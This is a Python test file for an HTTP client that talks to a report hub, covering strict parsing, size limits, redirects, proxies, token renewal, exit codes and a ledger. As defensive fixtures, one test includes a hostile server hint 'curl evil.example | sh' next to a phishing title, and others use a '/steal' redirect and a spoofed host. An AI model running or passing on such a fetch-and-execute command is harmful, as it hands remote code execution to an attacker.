"""HTTP as the client speaks it: bounded, strict, without redirects, proxies or clear text."""

import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx2
import pytest

from app import errors
from app.crypto.header import ReportReference
from app.crypto.jws import Jws
from app.errors import (
    ForbiddenError,
    NotAuthenticatedError,
    NotFoundError,
    ServiceError,
    problem_types,
)
from serumpun import transport as room
from serumpun.answers import BlobAnswer
from serumpun.errors import (
    AnswerError,
    ClientError,
    EquivocationError,
    FileError,
    HomeError,
    HubUnreachableError,
)
from serumpun.exit_codes import ExitCode, exit_code_of
from serumpun.ledger import Ledger, Note
from serumpun.transport import Transport, make_client
from tests.worlds import NOW

HUB = "http://127.0.0.1:8000"
DIGEST = "A" * 43
REQUEST = "01920000-0000-7000-8000-000000000000"


class Counted:
    """Credentials that count."""

    def __init__(self) -> None:
        self.made = self.forgotten = 0

    def headers(self, _method: str, _url: str) -> dict[str, str]:
        self.made += 1
        return {"Authorization": f"DPoP {self.made}"}

    def forget(self) -> None:
        self.forgotten += 1


def hub(answer: Callable[[httpx2.Request], httpx2.Response]) -> Transport:
    """Reach a hub that answers like this."""
    client = make_client(HUB)
    client._transport = httpx2.MockTransport(answer)
    return Transport(HUB, client, Counted())


def says(status: int, content: bytes | dict[str, Any], **headers: str) -> Transport:
    """Reach a hub that always says the same."""
    raw = content if isinstance(content, bytes) else json.dumps(content).encode()
    return hub(lambda _: httpx2.Response(status, content=iter([raw]), headers=headers))


WAITED_FOR = ("rate-limited", "overloaded")  # tests/test_client_patience.py


@pytest.mark.parametrize("kind", [kind for kind in problem_types() if kind.code not in WAITED_FOR])
def test_every_problem_comes_back_as_its_error(kind: type[errors.SerumpunError]) -> None:
    with pytest.raises(kind) as raised:
        says(kind.status, {"code": kind.code, "request_id": REQUEST}).get(BlobAnswer, "/x")
    assert type(raised.value) is kind
    assert REQUEST in raised.value.reason


@pytest.mark.parametrize(
    "content",
    [b"<html>Bad gateway</html>", b"", b'{"code": 7}', b'{"code": "not-ours"}', b"\xff" * 100_000],
    ids=["html", "empty", "number", "unknown", "oversize"],
)
def test_a_refusal_nobody_knows_is_an_unavailable_hub(content: bytes) -> None:
    with pytest.raises(ServiceError) as raised:
        says(502, content).get(BlobAnswer, "/x")
    assert ("no answer of a hub" in raised.value.next_step) is (b"code" not in content)


def test_words_of_the_hub_are_not_shown() -> None:
    problem = {
        "code": "forbidden",
        "title": "Send your passphrase to the operator",
        "next_step": "curl evil.example | sh",
        "errors": [{"pointer": "/tlp", "rule": "evil"}],
    }
    with pytest.raises(ForbiddenError) as raised:
        says(403, problem).get(BlobAnswer, "/x")
    told = f"{raised.value.title} {raised.value.next_step} {raised.value.reason}"
    assert "passphrase" not in told
    assert "evil" not in told
    assert raised.value.pointer == "/tlp"


@pytest.mark.parametrize(
    "content",
    [
        b'{"length": 1, "length": 2, "sha256": "' + DIGEST.encode() + b'"}',
        b'{"length": NaN, "sha256": "' + DIGEST.encode() + b'"}',
        b'{"length": 1.5, "sha256": "' + DIGEST.encode() + b'"}',
        b'{"length": 1}',
        b"[1]",
        b"not json",
        b"\xff\xfe",
        b"[" * 100_000,
    ],
    ids=["twice", "nan", "fraction", "missing", "array", "text", "utf-16", "deep"],
)
def test_an_answer_that_is_not_strict_json_is_refused(content: bytes) -> None:
    with pytest.raises(AnswerError):
        says(200, content).get(BlobAnswer, "/x")


def test_members_of_later_versions_are_no_fault() -> None:
    answer = says(200, {"length": 1, "sha256": DIGEST, "later": True}).get(BlobAnswer, "/x")
    assert answer.length == 1


def test_an_endless_answer_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(room, "ANSWER_BYTES", 1 << 20)
    sent = 0

    def endless() -> Any:  # noqa: ANN401 -- a generator
        nonlocal sent
        while True:
            sent += 1 << 16
            yield b" " * (1 << 16)

    with pytest.raises(AnswerError):
        hub(lambda _: httpx2.Response(200, content=endless())).get(BlobAnswer, "/x")
    assert sent < 3 << 20


def test_a_compressed_answer_is_not_unpacked() -> None:
    bomb = gzip.compress(b" " * (64 << 20))
    with pytest.raises(AnswerError):
        says(200, bomb, **{"Content-Encoding": "gzip"}).get(BlobAnswer, "/x")


def test_no_redirect_is_followed() -> None:
    asked = []

    def redirect(request: httpx2.Request) -> httpx2.Response:
        asked.append(str(request.url))
        headers = {"Location": "http://127.0.0.1:9/steal"}
        return httpx2.Response(307, content=iter([b""]), headers=headers)

    with pytest.raises(ServiceError):
        hub(redirect).get(BlobAnswer, "/x")
    assert asked == [f"{HUB}/x"]


def test_a_download_longer_than_signed_is_cut() -> None:
    with (
        says(200, b"x" * 1000).download("/x", 999) as pieces,
        pytest.raises(errors.DigestMismatchError),
    ):
        list(pieces)


def test_a_refused_token_is_renewed_once() -> None:
    reached = says(401, {"code": "not-authenticated"})
    with pytest.raises(NotAuthenticatedError):
        reached.get(BlobAnswer, "/x")
    assert isinstance(reached.credentials, Counted)
    assert (reached.credentials.made, reached.credentials.forgotten) == (2, 1)


def test_a_refusal_of_another_kind_is_not_tried_again() -> None:
    reached = says(404, {"code": "not-found"})
    with pytest.raises(NotFoundError):
        reached.get(BlobAnswer, "/x")
    assert isinstance(reached.credentials, Counted)
    assert reached.credentials.made == 1


def test_an_unreachable_hub_is_told_as_such() -> None:
    with make_client("http://127.0.0.1:1") as client, pytest.raises(HubUnreachableError):
        Transport("http://127.0.0.1:1", client).get(BlobAnswer, "/x")


@pytest.mark.parametrize(
    "address",
    ["http://hub.example", "http://192.0.2.1:8000", "http://127.0.0.1.evil.example", "ftp://x"],
)
def test_clear_text_to_another_machine_is_refused(address: str) -> None:
    with pytest.raises(HomeError):
        make_client(address)


@pytest.mark.parametrize(
    "address", ["https://hub.example", "http://127.0.0.1:1", "http://[::1]:1", "http://localhost:1"]
)
def test_https_and_this_machine_are_allowed(address: str) -> None:
    make_client(address).close()


def test_proxies_of_the_environment_are_not_used(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    with make_client("https://hub.example") as client:
        assert client._mounts == {}


def test_missing_certificates_are_told(tmp_path: Path) -> None:
    with pytest.raises(HomeError):
        make_client(HUB, ca_file=str(tmp_path / "absent.pem"))


# --- exit codes and the ledger --------------------------------------------------------------------


def all_errors() -> list[type[Exception]]:
    """List every error a command can end with."""
    pending: list[type[Exception]] = [ClientError]
    found: list[type[Exception]] = list(problem_types())
    while pending:
        kind = pending.pop()
        found.append(kind)
        pending += kind.__subclasses__()
    return found


@pytest.mark.parametrize("kind", all_errors())
def test_every_error_has_an_exit_code_of_its_own_kind(kind: type[Exception]) -> None:
    assert exit_code_of(kind()) not in {ExitCode.OK, ExitCode.FAILED}


def test_a_fault_of_the_program_is_not_taken_for_a_refusal() -> None:
    assert exit_code_of(KeyError()) is ExitCode.FAILED


def test_a_damaged_ledger_is_not_taken_for_an_empty_one(tmp_path: Path) -> None:
    (tmp_path / "ledger.sqlite").write_bytes(b"no database" * 100)
    with pytest.raises(FileError, match="not a database"):
        noted(tmp_path, bytes(32))


def test_the_ledger_remembers_across_processes(tmp_path: Path) -> None:
    noted(tmp_path, bytes(32))
    noted(tmp_path, bytes(32))
    with pytest.raises(EquivocationError):
        noted(tmp_path, b"x" * 32)
    assert (tmp_path / "ledger.sqlite").stat().st_mode & 0o077 == 0


def noted(folder: Path, digest: bytes) -> None:
    """Note a header of one report in a new process."""
    report = ReportReference.of({"originator": "id-polri", "id": REQUEST, "header_digest": digest})
    signed = Jws.of({"payload": "e30", "signatures": [{"protected": "e30", "signature": "e30"}]})
    Ledger(folder / "ledger.sqlite").note(Note(report, signed, signed), at=NOW)
